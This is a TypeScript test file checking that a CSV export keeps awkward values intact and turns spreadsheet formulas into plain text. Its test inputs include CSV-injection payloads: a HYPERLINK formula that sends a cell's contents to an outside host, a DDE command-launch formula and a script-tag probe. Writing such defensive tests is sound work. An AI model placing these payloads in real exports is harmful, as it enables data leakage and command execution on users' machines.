import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { formatCsv } from '#shared/csv.ts';

const read = (file: string) => parse(file, { bom: true, relax_column_count: false }) as string[][];
const bytes = (file: string) => [...Buffer.from(file)];

describe('T-03: an export opens in spreadsheets', () => {
  it('as UTF-8 with a byte order mark, with the line ends of RFC 4180', () => {
    const file = formatCsv([
      ['Plate', 'Customer'],
      ['KZT482', 'Mere Tūhoe'],
    ]);
    expect(bytes(file).slice(0, 3)).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.slice(1)).toBe('Plate,Customer\r\nKZT482,Mere Tūhoe\r\n');
  });

  it.each([
    ['a comma', 'Tūhoe, Mere'],
    ['quotes', 'Mere "the boss" Tūhoe'],
    ['a new line', 'Mere\nTūhoe'],
    ['an old line end', 'Mere\r\nTūhoe'],
    ['what looks like a line end', '",\r\n"=1+1'],
    ['Chinese', '陈伟'],
    ['an emoji', '🚗'],
    ['nothing', ''],
    ['markup', '<script>alert(1)</script>'],
    ['a very long text', 'x'.repeat(40_000)],
  ])('%s comes back unchanged', (_, text) => {
    expect(read(formatCsv([['before', text, 'after']]))).toEqual([['before', text, 'after']]);
  });

  it.each([
    '=1+1',
    '=HYPERLINK("https://example.nz/?x="&A1,"Click")',
    '+64215550143',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '＝1+1',
    "=cmd|' /C calc'!A0",
  ])('%j is a text and not a formula', (text) => {
    const [[cell = ''] = []] = read(formatCsv([[text]]));
    expect(cell).toBe(`'${text}`);
  });

  it.each(['KZT482', "O'Brien", 'A=B', '21/11/2026', '1043', 'a-b', '陈=伟'])('%j is unchanged', (text) => {
    expect(read(formatCsv([[text]]))).toEqual([[text]]);
  });
});
